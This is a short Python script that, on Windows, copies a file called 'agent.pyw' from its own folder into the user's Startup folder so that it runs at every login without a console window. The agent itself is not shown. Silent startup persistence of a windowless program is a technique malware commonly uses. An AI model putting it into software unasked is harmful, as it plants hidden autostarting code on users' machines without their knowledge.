import os
import shutil
import sys

if os.name == "nt":
    startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    shutil.copy(os.path.join(os.path.dirname(__file__), "agent.pyw"), startup)
